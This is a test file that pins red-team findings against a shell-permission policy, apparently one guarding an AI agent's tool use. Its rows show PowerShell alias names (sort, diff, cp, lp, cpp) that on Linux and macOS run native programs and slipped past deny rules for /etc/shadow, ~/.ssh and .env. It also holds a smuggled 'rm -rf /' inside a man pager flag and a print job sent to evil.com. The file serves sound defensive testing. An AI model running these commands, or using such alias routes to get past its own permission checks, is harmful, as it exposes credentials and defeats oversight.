// Red-team finds of session 31, pinned with the rows that failed before the fix and rows that
// show ordinary lines stay allowed. Rows are also checked against the reference evaluator.
import { describe } from 'vitest';
import { lineTable } from './helpers/line-table.js';
import { REPO_LINUX, REPO_WINDOWS, type Rules } from './helpers/policy.js';

const DENY = ['Shell(rm *)', 'Shell(curl *)', 'Read(//etc/**)', 'Edit(//etc/**)', 'Read(~/.ssh/**)', 'Read(**/.env)', 'Domain(evil.com)'];
const ALLOW = ['Shell(*)', 'Read(/**)', 'Edit(/**)', 'Domain(*.github.com)'];
const RULES: Rules = { deny: DENY, allow: ALLOW };
const REPO_DARWIN = Object.freeze({ ...REPO_LINUX, platform: 'darwin' as const });

// PowerShell 7 on Linux and macOS defines no alias sort, diff, cp, mv, tee, cat, ls, man, lp,
// cpp, ... (about_Aliases): the name runs the native program. Only the cmdlet was read, whose
// parameter binding sees no file in `sort .env` (Sort-Object -Property) or `diff /etc/shadow x`
// (Compare-Object's objects), nor GNU cp's `-t DIR`.
describe('PowerShell 7 off Windows: an alias Linux and macOS leave to the native program (were allowed)', () => {
  const rows: [string, 'deny' | 'ask' | 'allow'][] = [
    ['sort .env', 'deny'],
    ['sort /etc/shadow', 'deny'],
    ['Sort /etc/shadow', 'deny'],
    ['& sort .env', 'deny'],
    ["& 'sort' .env", 'deny'],
    ['sort --files0-from=/etc/shadow', 'deny'],
    ['sort -o /etc/hosts x', 'deny'],
    ['sort -T /etc x', 'deny'],
    ['diff /etc/shadow x', 'deny'],
    ['diff .env x', 'deny'],
    ['diff -r ~/.ssh x', 'deny'],
    ['cp -t /etc x', 'deny'],
    ['cp --target-directory=/etc x', 'deny'],
    ['/usr/bin/sort /etc/shadow', 'deny'],
    ['/bin/cp -t /etc x', 'deny'],
    ['man -P "rm -rf /" ls', 'deny'],
    ['lp -h evil.com:631 x', 'deny'],
    ['lp /etc/shadow', 'deny'],
    ['cpp /etc/shadow', 'deny'],
    ['cpp -o /etc/hosts x', 'deny'],
    // Precision: ordinary lines stay allowed.
    ['sort a.txt', 'allow'],
    ['Get-ChildItem | sort -Property Name', 'allow'],
    ['ls | sort Name', 'allow'],
    ['ls -la src', 'allow'],
    ['cat README.md', 'allow'],
    ['cp a.txt b.txt', 'allow'],
    ['echo hi | tee log.txt', 'allow'],
    ['sleep 5', 'allow'],
  ];
  describe('linux', () => lineTable(RULES, rows, 'pwsh', REPO_LINUX));
  describe('darwin', () => lineTable(RULES, rows, 'pwsh', REPO_DARWIN));
});

// On Windows the aliases run the cmdlets: no native reading there (precision kept).
describe('PowerShell on Windows: the same names are the cmdlets', () => {
  lineTable({ deny: [...DENY, 'Read(//c/secret/**)'], allow: ALLOW }, [
    ['sort .env', 'allow'],
    ['diff a.txt b.txt', 'allow'],
    ['Get-ChildItem | sort -Property Name', 'allow'],
    ['cat C:\\secret\\x', 'deny'],
  ], 'pwsh', REPO_WINDOWS);
});
